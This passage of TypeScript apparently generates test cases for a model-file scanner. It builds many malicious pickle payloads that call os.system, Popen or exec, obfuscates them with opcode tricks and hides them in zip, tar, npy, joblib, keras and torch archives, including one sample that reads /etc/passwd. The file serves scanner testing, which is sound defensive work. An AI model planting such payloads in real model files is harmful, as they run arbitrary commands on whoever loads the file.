import { gzipSync, zlibSync } from "fflate";
import * as c from "../../harness/compression.ts";
import * as keras from "../../harness/keras.ts";
import * as m from "../../harness/msgpack.ts";
import * as npy from "../../harness/npy.ts";
import * as p from "../../harness/pickle.ts";
import * as tar from "../../harness/tar.ts";
import * as zip from "../../harness/zip.ts";
import { type Construction, command, payload, run, system } from "./construction.ts";

/**
 * Constructions that were written down before looking at what the readers do: what a hostile author or the tester of
 * another scanner would think of.
 */
export const tricks: Construction[] = [];

const { Op } = p;
const g = p.stackGlobal;

function add(family: string, name: string, bytes: Uint8Array, file = "model.pkl"): void {
  tricks.push({ family, name, file, bytes });
}

function b64(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString("base64");
}

function hex(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString("hex");
}

add(
  "further opcode tricks",
  "module name by str.join",
  p.file(
    p.call(
      p.join(
        p.call(g("builtins", "str.join"), p.text(""), p.list(p.text("o"), p.text("s"))),
        p.text("system"),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "module name by operator.concat",
  p.file(
    p.call(
      p.join(
        p.call(g("operator", "concat"), p.text("o"), p.text("s")),
        p.text("system"),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "name by bytes decode",
  p.file(
    p.call(
      p.join(
        p.text("os"),
        p.call(g("_codecs", "decode"), p.bytes(p.latin1("flfgrz")), p.text("rot13")),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "name from _codecs.encode",
  p.file(
    p.call(
      p.join(
        p.text("os"),
        p.call(g("_codecs", "encode"), p.text("flfgrz"), p.text("rot13")),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "name from str() of bytes",
  p.file(
    p.call(
      p.join(
        p.call(g("builtins", "str"), p.bytes(p.latin1("os")), p.text("ascii")),
        p.text("system"),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "name from itemgetter",
  p.file(
    p.call(
      p.join(
        p.text("os"),
        p.call(p.call(g("operator", "itemgetter"), p.int(0)), p.list(p.text("system"))),
        p.stackGlobalOpcode,
      ),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "memo: names put before pop",
  p.file(
    p.text("os"),
    p.memoize,
    p.pop,
    p.text("system"),
    p.memoize,
    p.pop,
    p.get(0),
    p.get(1),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
  ),
);
add(
  "further opcode tricks",
  "memo overwritten by BINPUT",
  p.file(
    p.text("math"),
    p.put(0),
    p.pop,
    p.text("os"),
    p.put(0),
    p.pop,
    p.text("system"),
    p.put(1),
    p.pop,
    p.get(0),
    p.get(1),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
  ),
);
add(
  "further opcode tricks",
  "memo by text PUT with leading zeros/spaces",
  p.join(
    p.proto(4),
    p.text("os"),
    p.putText(" 007"),
    p.pop,
    p.getText("7"),
    p.text("system"),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
    p.stop,
  ),
);
add(
  "further opcode tricks",
  "memo by underscore number",
  p.join(
    p.proto(4),
    p.text("os"),
    p.putText("1_0"),
    p.pop,
    p.get(10),
    p.text("system"),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
    p.stop,
  ),
);
add(
  "further opcode tricks",
  "LONG_BINPUT high",
  p.file(
    p.text("os"),
    p.opcode(Op.LONG_BINPUT, p.raw(0xff, 0xff, 0, 0)),
    p.pop,
    p.opcode(Op.LONG_BINGET, p.raw(0xff, 0xff, 0, 0)),
    p.text("system"),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
  ),
);
add(
  "further opcode tricks",
  "MEMOIZE index after BINPUT gap",
  p.file(
    p.text("x"),
    p.put(5),
    p.pop,
    p.text("os"),
    p.memoize,
    p.pop,
    p.get(1),
    p.text("system"),
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
  ),
);
add(
  "further opcode tricks",
  "DUP names",
  p.file(
    p.text("os"),
    p.dup,
    p.pop,
    p.text("system"),
    p.dup,
    p.pop,
    p.stackGlobalOpcode,
    p.tuple(command),
    p.reduceOpcode,
  ),
);
add("further opcode tricks", "POP_MARK hides import", p.file(p.mark, run, p.popMark, p.none));
add("further opcode tricks", "call result discarded by POP", p.file(run, p.pop, p.none));
add(
  "further opcode tricks",
  "GLOBAL with no call, BUILD later by second stream",
  p.join(p.file(system), p.file(p.none)),
);
add(
  "further opcode tricks",
  "INST protocol 0",
  p.join(p.inst("os", "system", p.string("id", "STRING")), p.stop),
);
add(
  "further opcode tricks",
  "INST with __builtin__ proto 0",
  p.join(p.inst("__builtin__", "eval", p.string("1", "STRING")), p.stop),
);
add(
  "further opcode tricks",
  "OBJ proto1",
  p.join(p.obj(p.global("posix", "system"), p.text("id", "BINUNICODE")), p.stop),
);
add(
  "further opcode tricks",
  "NEWOBJ_EX kwargs Popen",
  p.file(
    p.newobjEx(
      g("subprocess", "Popen"),
      p.emptyTuple,
      p.dict([p.text("args"), command], [p.text("shell"), p.yes]),
    ),
  ),
);
add(
  "further opcode tricks",
  "BUILD on imported function dict",
  p.file(p.build(g("collections", "OrderedDict"), p.dict([p.text("__reduce__"), system]))),
);
add(
  "further opcode tricks",
  "BUILD slots tuple on module class",
  p.file(
    p.build(
      g("collections", "OrderedDict"),
      p.tuple(p.none, p.dict([p.text("__setitem__"), g("builtins", "print")])),
    ),
  ),
);
add(
  "further opcode tricks",
  "BUILD __setstate__ via instance",
  p.file(
    p.build(p.newobj(g("acme", "X")), p.dict([p.text("__setstate__"), system])),
    p.text("id"),
    p.buildOpcode,
  ),
);
add(
  "further opcode tricks",
  "BUILD __class__ replace",
  p.file(p.build(p.newobj(g("types", "SimpleNamespace")), p.dict([p.text("__class__"), g("acme", "Y")]))),
);
add(
  "further opcode tricks",
  "SETITEM on dict module",
  p.file(g("sys", "modules"), p.text("os"), p.none, p.setItem),
);
add(
  "further opcode tricks",
  "SETITEMS copyreg ext registry",
  p.file(
    g("copyreg", "_inverted_registry"),
    p.mark,
    p.int(1),
    p.tuple(p.text("os"), p.text("system")),
    p.opcode(Op.SETITEMS),
  ),
);
add("further opcode tricks", "EXT1 without registration", p.file(p.call(p.extension(1), command)));
add("further opcode tricks", "EXT4 high", p.file(p.call(p.extension(0x7fffffff), command)));
add(
  "further opcode tricks",
  "add_extension then EXT1",
  p.file(
    p.call(g("copyreg", "add_extension"), p.text("os"), p.text("system"), p.int(240)),
    p.pop,
    p.call(p.extension(240), command),
  ),
);
add("further opcode tricks", "PERSID in plain", p.file(p.persistentText("x"), p.pop, run));
add("further opcode tricks", "FRAME too long", p.join(p.proto(4), p.frame(1000), run, p.stop));
add("further opcode tricks", "FRAME too short splits", p.join(p.proto(4), p.frame(3), run, p.stop));
add("further opcode tricks", "nested FRAMEs", p.join(p.proto(4), p.framed(p.framed(run)), p.stop));
add("further opcode tricks", "FRAME huge 2^63", p.join(p.proto(4), p.frame(1n << 63n), run, p.stop));
add("further opcode tricks", "code after STOP", p.join(p.file(p.none), payload));
add(
  "further opcode tricks",
  "junk between pickles",
  p.join(p.file(p.none), p.latin1("junkjunk\n\n\0\0"), payload),
);
add("further opcode tricks", "64 kB zeros between", p.join(p.file(p.none), new Uint8Array(65536), payload));
add("further opcode tricks", "missing STOP", p.join(p.proto(4), run));
add("further opcode tricks", "truncated after import", p.join(p.proto(4), system));
add("further opcode tricks", "bad opcode after call", p.join(p.proto(4), run, p.raw(0xff), p.stop));
add(
  "further opcode tricks",
  "stack underflow after call",
  p.join(p.proto(4), run, p.pop, p.pop, p.pop, p.stop),
);
add("further opcode tricks", "unset memo after call", p.join(p.proto(4), run, p.get(99), p.stop));
add(
  "further opcode tricks",
  "bad utf8 after call",
  p.join(p.proto(4), run, p.opcode(Op.SHORT_BINUNICODE, p.raw(2, 0xff, 0xfe)), p.stop),
);
add(
  "further opcode tricks",
  "length 1 TiB after call",
  p.join(p.proto(4), run, p.lying(Op.BINUNICODE8, 1n << 40n, 8, p.latin1("x")), p.stop),
);
add("further opcode tricks", "negative LONG4", p.join(p.proto(4), run, p.long4(-1, p.raw(1)), p.stop));
add("further opcode tricks", "PROTO 255", p.join(p.proto(255), run, p.stop));
add("further opcode tricks", "PROTO mid stream", p.join(p.proto(2), run, p.proto(4), p.stop));
add(
  "further opcode tricks",
  "proto 0 no PROTO at all, GLOBAL",
  p.join(system, p.opcode(Op.MARK), p.string("id", "STRING"), p.opcode(Op.TUPLE), p.reduceOpcode, p.stop),
);
add(
  "further opcode tricks",
  "GLOBAL module with spaces",
  p.join(p.proto(2), p.latin1("c os\nsystem\n"), p.tuple(p.text("id", "BINUNICODE")), p.reduceOpcode, p.stop),
);
add(
  "further opcode tricks",
  "UNICODE opcode escapes",
  p.file(
    p.call(
      p.join(p.text("\\u006fs", "UNICODE"), p.text("sys\\u0074em", "UNICODE"), p.stackGlobalOpcode),
      command,
    ),
  ),
);
add(
  "further opcode tricks",
  "STRING hex escapes",
  p.join(
    p.proto(2),
    p.opcode(Op.STRING, p.latin1("'\\x6fs'\n")),
    p.opcode(Op.STRING, p.latin1('"s\\171stem"\n')),
    p.stackGlobalOpcode,
    p.tuple(p.text("id", "BINUNICODE")),
    p.reduceOpcode,
    p.stop,
  ),
);
add(
  "further opcode tricks",
  "BINSTRING names",
  p.file(p.call(p.join(p.string("os", "BINSTRING"), p.string("system"), p.stackGlobalOpcode), command)),
);
add(
  "further opcode tricks",
  "dotted GLOBAL proto4",
  p.file(p.call(p.global("shutil", "os.system"), command)),
);
add(
  "further opcode tricks",
  "dotted through random lib",
  p.file(p.call(g("numpy.core.records", "os.system"), command)),
);
add(
  "further opcode tricks",
  "dotted via sys.modules get",
  p.file(p.call(g("sys", "modules.get"), p.text("os"))),
);
add("further opcode tricks", "alias posix", p.file(p.call(g("posix", "popen"), command)));
add(
  "further opcode tricks",
  "numpy alias for builtins getattr",
  p.file(p.call(p.call(g("numpy.core.numeric", "getattr"), g("numpy", "os"), p.text("system")), command)),
);
add(
  "further opcode tricks",
  "getattr chain",
  p.file(p.call(p.call(g("builtins", "getattr"), g("builtins", "print"), p.text("__self__")), command)),
);
add(
  "further opcode tricks",
  "__getattribute__ of str",
  p.file(p.call(g("builtins", "str.__getattribute__"), p.text("x"), p.text("format"))),
);
add("further opcode tricks", "object.__subclasses__", p.file(p.call(g("builtins", "object.__subclasses__"))));
add(
  "further opcode tricks",
  "type.__subclasses__ call",
  p.file(p.call(g("builtins", "type.__subclasses__"), g("builtins", "object"))),
);
add(
  "further opcode tricks",
  "map via NEWOBJ then list",
  p.file(p.call(g("builtins", "list"), p.newobj(g("builtins", "map"), system, p.list(command)))),
);
add(
  "further opcode tricks",
  "filter via tuple.__new__",
  p.file(p.newobj(g("builtins", "tuple"), p.newobj(g("builtins", "filter"), system, p.list(command)))),
);
add(
  "further opcode tricks",
  "frozenset over starmap",
  p.file(
    p.newobj(
      g("builtins", "frozenset"),
      p.newobj(g("itertools", "starmap"), system, p.list(p.tuple(command))),
    ),
  ),
);
add(
  "further opcode tricks",
  "collections.deque over map",
  p.file(p.newobj(g("collections", "deque"), p.newobj(g("builtins", "map"), system, p.list(command)))),
);
add(
  "further opcode tricks",
  "defaultdict factory subprocess",
  p.file(
    p.call(
      p.call(g("operator", "itemgetter"), p.int(1)),
      p.call(g("collections", "defaultdict"), g("subprocess", "getoutput")),
    ),
  ),
);
add(
  "further opcode tricks",
  "functools.reduce",
  p.file(p.call(g("functools", "reduce"), system, p.list(command, command))),
);
add(
  "further opcode tricks",
  "singledispatch register",
  p.file(p.call(g("functools", "singledispatch"), system)),
);
add(
  "further opcode tricks",
  "max key (kwargs)",
  p.file(p.newobjEx(g("builtins", "max"), p.tuple(p.list(command)), p.dict([p.text("key"), system]))),
);
add(
  "further opcode tricks",
  "iter sentinel",
  p.file(p.call(g("builtins", "list"), p.call(g("builtins", "iter"), g("builtins", "breakpoint"), p.int(1)))),
);
add(
  "further opcode tricks",
  "type() three args",
  p.file(
    p.call(
      g("builtins", "type"),
      p.text("X"),
      p.tuple(g("builtins", "object")),
      p.dict([p.text("__init__"), system]),
    ),
  ),
);
add(
  "further opcode tricks",
  "namedtuple then exec",
  p.file(
    p.call(g("collections", "namedtuple"), p.text("X"), p.text("a b")),
    p.pop,
    p.call(g("builtins", "exec"), p.text("1")),
  ),
);
add(
  "further opcode tricks",
  "logging.getLogger manager setLoggerClass",
  p.file(p.call(g("logging", "config.dictConfig"), p.dict([p.text("version"), p.int(1)]))),
);
add(
  "further opcode tricks",
  "_reconstructor base Popen",
  p.file(p.call(g("copyreg", "_reconstructor"), g("subprocess", "Popen"), g("subprocess", "Popen"), command)),
);
add(
  "further opcode tricks",
  "copyreg.__newobj_ex__ Popen",
  p.file(p.call(g("copyreg", "__newobj_ex__"), g("subprocess", "Popen"), p.tuple(command), p.emptyDict)),
);
add("further opcode tricks", "copyreg.constructor", p.file(p.call(g("copyreg", "constructor"), system)));
add(
  "further opcode tricks",
  "weakref.finalize",
  p.file(p.call(g("weakref", "finalize"), p.newobj(g("types", "SimpleNamespace")), system, command)),
);
add("further opcode tricks", "atexit.register", p.file(p.call(g("atexit", "register"), system, command)));
add(
  "further opcode tricks",
  "threading.Timer",
  p.file(p.call(g("threading", "Timer"), p.int(0), system, p.tuple(command))),
);
add(
  "further opcode tricks",
  "contextlib.ExitStack.callback",
  p.file(
    p.call(g("contextlib", "ExitStack.callback"), p.call(g("contextlib", "ExitStack")), system, command),
  ),
);
add("further opcode tricks", "ctypes CDLL", p.file(p.call(g("ctypes", "CDLL"), p.text("libc.so.6"))));
add("further opcode tricks", "code: types.CodeType", p.file(p.call(g("types", "CodeType"), p.int(0))));
add(
  "further opcode tricks",
  "cloudpickle _make_function",
  p.file(p.call(g("cloudpickle.cloudpickle", "_make_function"), p.none)),
);
add(
  "further opcode tricks",
  "dill _create_function",
  p.file(p.call(g("dill._dill", "_create_function"), p.none)),
);
add(
  "further opcode tricks",
  "dill _load_type + marshal",
  p.file(p.call(g("dill._dill", "_load_type"), p.text("CodeType"))),
);

add(
  "further packed constants",
  "pickle.loads of bytes",
  p.file(p.call(g("_pickle", "loads"), p.bytes(payload))),
);
add("further packed constants", "nested pickle in bytes unused", p.file(p.tuple(p.bytes(payload))));
add(
  "further packed constants",
  "nested pickle base64 text",
  p.file(p.dict([p.text("weights"), p.text(b64(payload))])),
);
add(
  "further packed constants",
  "nested pickle base64 urlsafe wrapped lines",
  p.file(
    p.dict([
      p.text("w"),
      p.text(b64(p.file(p.text("x".repeat(100)), p.pop, run)).replace(/(.{76})/g, "$1\n")),
    ]),
  ),
);
add("further packed constants", "nested zlib pickle bytes", p.file(p.tuple(p.bytes(zlibSync(payload)))));
add("further packed constants", "nested gzip pickle", p.file(p.tuple(p.bytes(gzipSync(payload)))));
add("further packed constants", "nested hex pickle", p.file(p.tuple(p.text(hex(payload)))));
add("further packed constants", "nested bytearray pickle", p.file(p.tuple(p.bytes(payload, "BYTEARRAY8"))));
add(
  "further packed constants",
  "nested latin1 text pickle",
  p.file(
    p.call(
      g("_codecs", "encode"),
      p.text(Buffer.from(p.stream(2, p.call(system, p.string("id")))).toString("latin1")),
      p.text("latin1"),
    ),
  ),
);
add("further packed constants", "nested npy object in bytes", p.file(p.tuple(p.bytes(npy.objects(payload)))));
add(
  "further packed constants",
  "nested zip in bytes",
  p.file(p.tuple(p.bytes(zip.archive([zip.member("x.pkl", payload)])))),
);
add(
  "further packed constants",
  "torch _load_from_bytes nested zip",
  p.file(p.call(g("torch.storage", "_load_from_bytes"), p.bytes(zip.pytorch(payload)))),
);
add("further packed constants", "nested double base64", p.file(p.tuple(p.text(b64(p.latin1(b64(payload)))))));
add(
  "further packed constants",
  "marshal in bytes",
  p.file(p.call(g("marshal", "loads"), p.bytes(p.raw(0xe3, 0, 0, 0, 0)))),
);

const odd = [
  "data",
  "weights.txt",
  "model.json",
  "a.png",
  "README.md",
  "x.dat",
  "LICENSE",
  "model",
  "0",
  "__init__.py",
  "vocab.txt",
  "x.safetensors",
  "x.gguf",
  "x.onnx",
  "params",
];
for (const n of odd) add("further names and archives", `raw pickle named ${n}`, payload, n);
for (const n of odd)
  add("further names and archives", `zip member ${n}`, zip.archive([zip.member(n, payload)]), "model.zip");
add(
  "further names and archives",
  "zip stored encrypted flag",
  zip.archive([zip.member("archive/data.pkl", payload, { local: { flags: 1 }, central: { flags: 1 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip encrypted in central only",
  zip.archive([zip.member("archive/data.pkl", payload, { central: { flags: 1 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip crc wrong",
  zip.archive([zip.member("archive/data.pkl", payload, { central: { crc: 1 }, local: { crc: 1 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip local name differs",
  zip.archive([zip.member("archive/data.pkl", payload, { local: { name: "archive/data.txt" } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip central name is txt, local data.pkl",
  zip.archive([zip.member("archive/data.txt", payload, { local: { name: "archive/data.pkl" } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip method says stored but deflated local",
  zip.archive([zip.member("archive/data.pkl", payload, { deflate: true, local: { method: 0 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip size zero in central",
  zip.archive([zip.member("archive/data.pkl", payload, { central: { size: 0, compressedSize: 0 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip size zero in local",
  zip.archive([zip.member("archive/data.pkl", payload, { local: { size: 0, compressedSize: 0 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip only local",
  zip.archive([
    zip.member("archive/data.pkl", p.file(p.none)),
    zip.member("archive/other.pkl", payload, { onlyLocal: true }),
  ]),
  "model.pt",
);
add(
  "further names and archives",
  "zip only central",
  zip.archive([zip.member("archive/data.pkl", payload, { onlyCentral: true })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip duplicates first clean",
  zip.archive([zip.member("archive/data.pkl", p.file(p.none)), zip.member("archive/data.pkl", payload)]),
  "model.pt",
);
add(
  "further names and archives",
  "zip duplicates last clean",
  zip.archive([zip.member("archive/data.pkl", payload), zip.member("archive/data.pkl", p.file(p.none))]),
  "model.pt",
);
add(
  "further names and archives",
  "zip case duplicates",
  zip.archive([zip.member("archive/data.pkl", p.file(p.none)), zip.member("archive/DATA.PKL", payload)]),
  "model.pt",
);
add(
  "further names and archives",
  "zip prefix pickle",
  zip.archive([zip.member("archive/data.pkl", p.file(p.none))], { prefix: payload }),
  "model.pt",
);
add(
  "further names and archives",
  "zip prefix pickle uncounted",
  zip.archive([zip.member("archive/data.pkl", p.file(p.none))], { prefix: payload, prefixCounted: false }),
  "model.pt",
);
add(
  "further names and archives",
  "zip appended pickle",
  p.join(zip.archive([zip.member("archive/data.pkl", p.file(p.none))]), payload),
  "model.pt",
);
add(
  "further names and archives",
  "zip comment holds second archive",
  zip.archive([zip.member("archive/data.pkl", p.file(p.none))], {
    comment: zip.archive([zip.member("archive/data.pkl", payload)]),
  }),
  "model.pt",
);
add(
  "further names and archives",
  "zip64 malicious",
  zip.archive([zip.member("archive/data.pkl", payload)], { zip64: true }),
  "model.pt",
);
add(
  "further names and archives",
  "zip end says 0 entries",
  zip.archive([zip.member("archive/data.pkl", payload)], { end: { entries: 0 } }),
  "model.pt",
);
add(
  "further names and archives",
  "zip end offset wrong",
  zip.archive([zip.member("archive/data.pkl", payload)], { end: { offset: 5 } }),
  "model.pt",
);
add(
  "further names and archives",
  "zip descriptor",
  zip.archive([zip.member("archive/data.pkl", payload, { descriptor: true, deflate: true })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip unknown method 99",
  zip.archive([zip.member("archive/data.pkl", payload, { method: { number: 99, pack: (x) => x } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip method bzip2",
  zip.archive([zip.member("archive/data.pkl", payload, { method: { number: 12, pack: c.bzip2 } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip method lzma",
  zip.archive([zip.member("archive/data.pkl", payload, { method: { number: 14, pack: c.zipLzma } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip method zstd 93",
  zip.archive([zip.member("archive/data.pkl", payload, { method: { number: 93, pack: c.zstd } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip method xz 95",
  zip.archive([zip.member("archive/data.pkl", payload, { method: { number: 95, pack: c.xz } })]),
  "model.pt",
);
add(
  "further names and archives",
  "zip member name backslash",
  zip.archive([zip.member("archive\\data.pkl", payload)]),
  "model.pt",
);
add(
  "further names and archives",
  "zip member name with NUL",
  zip.archive([zip.member("archive/data.pkl\0.txt", payload)]),
  "model.pt",
);
add(
  "further names and archives",
  "zip directory entry with content",
  zip.archive([zip.member("archive/data.pkl/", payload)]),
  "model.pt",
);
add(
  "further names and archives",
  "zip in zip in tar.gz",
  gzipSync(
    tar.archive([
      tar.member("a.zip", zip.archive([zip.member("b.zip", zip.archive([zip.member("c", payload)]))])),
    ]),
  ),
  "m.tar.gz",
);
add(
  "further names and archives",
  "tar member pickle no ext",
  tar.archive([tar.member("x", payload)]),
  "m.tar",
);
add(
  "further names and archives",
  "tar old format",
  tar.archive([tar.member("pickle", payload, { old: true })]),
  "m.pt",
);
add(
  "further names and archives",
  "tar type 7 contiguous",
  tar.archive([tar.member("x.pkl", payload, { type: "7" })]),
  "m.tar",
);
add(
  "further names and archives",
  "tar type NUL",
  tar.archive([tar.member("x.pkl", payload, { type: "\0" })]),
  "m.tar",
);
add(
  "further names and archives",
  "tar type unknown Z",
  tar.archive([tar.member("x.pkl", payload, { type: "Z" })]),
  "m.tar",
);
add(
  "further names and archives",
  "tar type V label",
  tar.archive([tar.member("x.pkl", payload, { type: "V" }), tar.member("y.pkl", payload)]),
  "m.tar",
);
add(
  "further names and archives",
  "tar directory type with size",
  tar.archive([tar.member("x.pkl", payload, { type: "5" })]),
  "m.tar",
);
add(
  "further names and archives",
  "tar sparse S",
  tar.archive([tar.member("x.pkl", payload, { type: "S" })]),
  "m.tar",
);
add(
  "further names and archives",
  "tar after zero blocks",
  p.join(tar.archive([tar.member("x.txt", p.latin1("hi"))]), tar.archive([tar.member("y.pkl", payload)])),
  "m.tar",
);
add(
  "further names and archives",
  "tar pax path rename to data.pkl",
  tar.archive([tar.pax({ path: "archive/data.pkl" }), tar.member("x", payload)]),
  "m.tar",
);
add(
  "further names and archives",
  "tar pax size lie",
  tar.archive([tar.pax({ size: "0" }), tar.member("x.pkl", payload)]),
  "m.tar",
);
add(
  "further names and archives",
  "torch legacy tar",
  tar.archive([
    tar.member("pickle", payload),
    tar.member("storages", p.file(p.int(0))),
    tar.member("tensors", p.file(p.int(0))),
    tar.member("sys_info", p.file(p.none)),
  ]),
  "m.pt",
);
add(
  "further names and archives",
  "torch legacy tar storages evil",
  tar.archive([
    tar.member("pickle", p.file(p.none)),
    tar.member("storages", payload),
    tar.member("tensors", p.file(p.int(0))),
    tar.member("sys_info", p.file(p.none)),
  ]),
  "m.pt",
);
add("further names and archives", "7z", c.sevenZip([{ name: "x", content: payload }]), "m.7z");
add("further names and archives", "joblib gzip", gzipSync(payload), "m.joblib");
add("further names and archives", "joblib zlib", zlibSync(payload), "m.joblib");
add("further names and archives", "joblib lz4", c.lz4(payload), "m.joblib");
add("further names and archives", "joblib bz2", c.bzip2(payload), "m.joblib");
add("further names and archives", "joblib xz", c.xz(payload), "m.joblib");
add("further names and archives", "joblib lzma", c.lzma(payload), "m.joblib");
add("further names and archives", "zstd", c.zstd(payload), "m.pkl.zst");
add("further names and archives", "gz of gz of xz", gzipSync(gzipSync(c.xz(payload))), "m.bin");
add(
  "further names and archives",
  "gzip two members second evil",
  p.join(gzipSync(p.file(p.none)), gzipSync(payload)),
  "m.joblib",
);
add("further names and archives", "gzip truncated", gzipSync(payload).slice(0, -9), "m.joblib");
add(
  "further names and archives",
  "gzip with bad crc",
  gzipSync(payload).map((byte, index, all) => (index === all.length - 6 ? byte ^ 0xff : byte)),
  "m.joblib",
);
const wrapper = p.build(
  p.newobj(g("joblib.numpy_pickle", "NumpyArrayWrapper")),
  p.dict(
    [p.text("subclass"), g("numpy", "ndarray")],
    [p.text("shape"), p.tuple(p.int(4))],
    [p.text("order"), p.text("C")],
    [p.text("dtype"), p.call(g("numpy", "dtype"), p.text("f8"), p.no, p.yes)],
    [p.text("allow_mmap"), p.yes],
  ),
);
add(
  "further names and archives",
  "joblib raw array then call",
  p.join(p.proto(4), wrapper, new Uint8Array(32), run, p.stop),
  "m.joblib",
);
add(
  "further names and archives",
  "joblib padded array then call",
  p.join(
    p.proto(4),
    p.build(
      p.newobj(g("joblib.numpy_pickle", "NumpyArrayWrapper")),
      p.dict(
        [p.text("subclass"), g("numpy", "ndarray")],
        [p.text("shape"), p.tuple(p.int(4))],
        [p.text("order"), p.text("C")],
        [p.text("dtype"), p.call(g("numpy", "dtype"), p.text("f8"), p.no, p.yes)],
        [p.text("allow_mmap"), p.yes],
        [p.text("numpy_array_alignment_bytes"), p.int(16)],
      ),
    ),
    p.raw(15),
    new Uint8Array(15).fill(255),
    new Uint8Array(32),
    run,
    p.stop,
  ),
  "m.joblib",
);
add(
  "further names and archives",
  "joblib object array",
  p.join(
    p.proto(4),
    p.build(
      p.newobj(g("joblib.numpy_pickle", "NumpyArrayWrapper")),
      p.dict(
        [p.text("subclass"), g("numpy", "ndarray")],
        [p.text("shape"), p.tuple(p.int(1))],
        [p.text("order"), p.text("C")],
        [p.text("dtype"), p.call(g("numpy", "dtype"), p.text("O"), p.no, p.yes)],
        [p.text("allow_mmap"), p.no],
      ),
    ),
    payload,
    p.stop,
  ),
  "m.joblib",
);
add("further names and archives", "npy object", npy.objects(payload), "a.npy");
add(
  "further names and archives",
  "npy structured object",
  npy.file("[('a', '<f8'), ('b', '|O')]", "(1,)", payload),
  "a.npy",
);
add(
  "further names and archives",
  "npy nested structured",
  npy.file("[('a', [('b', 'O')])]", "(1,)", payload),
  "a.npy",
);
add(
  "further names and archives",
  "npy subarray object",
  npy.file("[('a', 'O', (2,))]", "(1,)", payload),
  "a.npy",
);
add("further names and archives", "npy version 3", npy.file("'O'", "(1,)", payload, 3), "a.npy");
add("further names and archives", "npy descr O8", npy.file("'|O8'", "(1,)", payload), "a.npy");
add("further names and archives", "npy pickle named .npy", payload, "a.npy");
add(
  "further names and archives",
  "npz object",
  zip.archive([zip.member("arr_0.npy", npy.objects(payload))]),
  "a.npz",
);
add(
  "further names and archives",
  "npz member without .npy that is pickle",
  zip.archive([
    zip.member("arr_0.npy", npy.file("'<f8'", "(1,)", new Uint8Array(8))),
    zip.member("arr_1", payload),
  ]),
  "a.npz",
);
add(
  "further names and archives",
  "msgpack with pickle ext",
  m.map(["params", m.bytes(payload)]),
  "x.msgpack",
);
add("further names and archives", "msgpack ext", m.map(["params", m.extension(42, payload)]), "x.msgpack");
add(
  "further names and archives",
  "msgpack numpy object array",
  m.map(["nd", p.raw(0xc3)], ["type", m.text("O")], ["kind", m.text("O")], ["data", m.bytes(payload)]),
  "x.msgpack",
);
add(
  "further names and archives",
  "keras inner pickle",
  keras.archive(keras.sequential(keras.layer("Dense")), {
    members: [zip.member("assets/vocab.pkl", payload)],
  }),
  "m.keras",
);
add(
  "further names and archives",
  "torchscript code os",
  zip.archive([
    zip.member("m/data.pkl", p.file(p.none)),
    zip.member("m/constants.pkl", payload),
    zip.member("m/code/__torch__/x.py", p.latin1("def f(): ...")),
  ]),
  "m.pt",
);
add(
  "further names and archives",
  "torchscript from_file",
  zip.archive([
    zip.member("m/data.pkl", p.stream(2, p.none)),
    zip.member("m/version", p.latin1("3")),
    zip.member("m/constants.pkl", p.stream(2, p.emptyTuple)),
    zip.member(
      "m/code/__torch__/x.py",
      p.latin1(
        'class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = torch.from_file("/etc/passwd", True, 10)\n    torch.save(_0, "/tmp/x")\n    return x\n',
      ),
    ),
  ]),
  "m.pt",
);
add(
  "further names and archives",
  "pt2 sample inputs pickle",
  zip.archive([
    zip.member("m/archive_format", p.latin1("pt2")),
    zip.member("m/models/model.json", p.latin1("{}")),
    zip.member("m/data/sample_inputs/model.pt", zip.pytorch(payload)),
  ]),
  "m.pt2",
);
add(
  "further names and archives",
  "second stream memo cleared",
  p.join(
    p.file(p.text("os"), p.memoize),
    p.join(
      p.proto(4),
      p.text("os"),
      p.memoize,
      p.pop,
      p.get(0),
      p.text("system"),
      p.stackGlobalOpcode,
      p.tuple(command),
      p.reduceOpcode,
      p.stop,
    ),
  ),
);
add("further names and archives", "utf-16 BOM then pickle", p.join(p.raw(0xff, 0xfe), payload), "m.pkl");
add("further names and archives", "leading newline", p.join(p.latin1("\n"), payload), "m.pkl");
add(
  "further names and archives",
  "leading shebang",
  p.join(p.latin1("#!/usr/bin/env python\n"), payload),
  "m.pkl",
);
add(
  "further names and archives",
  "10^5 deep tuple then call",
  p.join(
    p.proto(4),
    p.emptyTuple,
    ...Array.from({ length: 100000 }, () => p.raw(Op.TUPLE1)),
    p.pop,
    run,
    p.stop,
  ),
);
add(
  "further names and archives",
  "dup bomb then call",
  p.join(p.proto(4), p.emptyList, ...Array.from({ length: 50000 }, () => p.raw(Op.DUP)), run, p.stop),
);

/** Called with a text, as they are made to be. */
const acting: readonly (readonly [string, string])[] = [
  ["fastcore.basics", "exec_new"],
  ["fastcore.basics", "nested_attr"],
  ["pytorch_lightning.cli", "instantiate_class"],
  ["speechbrain.dataio.dataio", "load_pkl"],
